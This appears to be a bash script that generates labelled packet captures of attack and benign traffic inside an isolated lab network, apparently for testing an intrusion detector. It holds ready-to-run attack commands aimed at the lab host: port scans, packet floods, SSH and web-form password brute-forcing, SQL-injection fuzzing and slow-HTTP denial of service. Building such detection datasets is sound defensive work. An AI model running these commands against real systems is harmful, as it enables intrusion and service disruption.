#!/usr/bin/env bash
# Runs every scenario in the lab of lab.sh and captures it on the bridge: one pcap per scenario in
# OUT, with OUT/manifest.csv (file,label,packets,seconds) and OUT/labels.csv (the attacker's
# address is malicious, every other flow benign). Attacks run from 10.77.0.66, benign clients
# from 10.77.0.20. ONLY=REGEX runs only the scenarios whose names match (appending to the manifest).
# Usage: [ONLY=REGEX] capture.sh RUN_DIR OUT   (RUN_DIR as given to lab.sh up)
set -uo pipefail
source "$(dirname "$0")/capture-lib.sh"
lab_dirs "$@"
T=10.77.0.10
W=/usr/share/dirb/wordlists
printf 'ip,label\n10.77.0.66,malicious\n' > "$out/labels.csv"
manifest_start
# Passwords tried: the first 40 words of dirb's common list, then the real one.
{ head -40 "$W/common.txt"; echo 'Sunset#2024'; } > "$run/passwords.txt"
{ sed -n 200,260p "$W/common.txt"; echo letmein99; } > "$run/web-passwords.txt"
mac=$(ip netns exec fl-srv cat /sys/class/net/eth0/address)

scenario() { # NAME LABEL COMMAND: attacks from fl-atk, benign clients from fl-cli, 40 s at most
  local name=$1 label=$2 ns=fl-atk
  shift 2
  [ "$label" = benign ] && ns=fl-cli
  labelled_scenario "$name" "$label" "$ns" 40 "$*"
}

# Attacks: scan types, flood types and brute-forcers absent from the training captures, then
# other runs of tools that are in them.
scenario nmap_fin_scan malicious nmap -sF -Pn -n -T4 -p 1-600 $T
scenario nmap_xmas_scan malicious nmap -sX -Pn -n -T4 -p 1-600 $T
scenario nmap_null_scan malicious nmap -sN -Pn -n -T4 -p 1-600 $T
scenario nmap_ack_scan malicious nmap -sA -Pn -n -T4 -p 1-600 $T
scenario masscan_syn malicious masscan $T -p1-1500 --rate 3000 --wait 2 --interface eth0 --router-mac "$mac" --adapter-ip 10.77.0.66
scenario hping3_udp_flood malicious hping3 --udp -p 53 -c 4000 -i u300 $T
scenario hping3_icmp_flood malicious hping3 -1 -c 4000 -i u300 $T
scenario hping3_ack_flood malicious hping3 -A -p 80 -c 4000 -i u300 $T
scenario medusa_ssh malicious medusa -h $T -u fmlab -P "$run/passwords.txt" -M ssh -t 4 -f
scenario ncrack_ssh malicious ncrack -p 22 --user fmlab -P "$run/passwords.txt" $T
scenario ffuf_dirs malicious ffuf -s -u "http://$T/FUZZ" -w $W/common.txt -t 10
scenario ffuf_sqli malicious ffuf -s -u "'http://$T/item.php?id=FUZZ'" -w /usr/share/wfuzz/wordlist/Injections/SQL.txt -t 4
scenario slowhttp_body malicious slowhttptest -B -c 100 -i 5 -r 30 -l 25 -s 8192 -t POST -u "http://$T/login.php"
scenario slowhttp_read malicious slowhttptest -X -c 100 -r 30 -l 20 -w 10 -y 20 -n 3 -z 32 -u "http://$T/docs/big.bin"
scenario nmap_syn_slow malicious nmap -sS -Pn -n -T3 --top-ports 200 $T
scenario nmap_connect_top malicious nmap -sT -Pn -n -T4 --top-ports 300 $T
scenario nmap_version malicious nmap -sV -Pn -n -p 22,80 $T
scenario hydra_ssh_rerun malicious hydra -I -f -t 4 -l fmlab -P "$run/passwords.txt" ssh://$T
scenario gobuster_rerun malicious gobuster dir -q -z -u "http://$T/" -w $W/small.txt -t 5
scenario dirb_rerun malicious dirb "http://$T/" $W/small.txt -S
scenario wfuzz_rerun malicious wfuzz -z file,$W/small.txt --hc 404 "http://$T/FUZZ"
scenario hydra_http_form_rerun malicious hydra -I -f -t 6 -l admin -P "$run/web-passwords.txt" $T http-post-form \
  "'/login.php:user=^USER^&pass=^PASS^:F=Invalid credentials'"
scenario sqlmap_rerun malicious sqlmap -u "'http://$T/item.php?id=1'" --batch --flush-session --output-dir="$run/sqlmap" \
  --level 1 --threads 2 --technique=BE
# Benign clients.
scenario bn_browse benign 'for i in $(seq 1 30); do p=$(shuf -n1 -e index about contact news faq products/p$((RANDOM%12+1)));
  curl -s -o /dev/null http://'$T'/$p.html; sleep 0.$((RANDOM%9+1)); done'
scenario bn_browse_keepalive benign 'for i in $(seq 1 12); do curl -s -o /dev/null -o /dev/null -o /dev/null \
  http://'$T'/index.html http://'$T'/products/p$((RANDOM%12+1)).html http://'$T'/about.html; sleep 0.$((RANDOM%9+1)); done'
scenario bn_wget_mirror benign wget -r -l 2 -np -nv --wait=0.1 -P "$run/mirror" "http://$T/index.html"
scenario bn_download benign curl -s -o /dev/null --limit-rate 1M "http://$T/docs/big.bin"
scenario bn_siege benign siege -q -c 4 -t 8S "http://$T/index.html"
scenario bn_ab_keepalive benign ab -q -k -n 2000 -c 4 "http://$T/about.html"
scenario bn_poll benign 'for i in $(seq 1 15); do curl -s -o /dev/null "http://'$T'/item.php?id=$((RANDOM%50))"; sleep 1; done'
scenario bn_ssh benign 'for c in uptime "ls -la /" "cat /etc/os-release" "df -h"; do
  ssh -i '"$run"'/client_key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null fmlab@'$T' "$c"; sleep 1; done'
scenario bn_scp benign scp -i "$run/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
  "fmlab@$T:$run/www/docs/big.bin" "$run/big.copy"
scenario bn_iperf benign iperf3 -c $T -t 4 -b 50M
scenario bn_login benign 'for i in 1 2 3; do curl -s -o /dev/null -d "user=admin&pass=letmein99" http://'$T'/login.php; sleep 2; done'
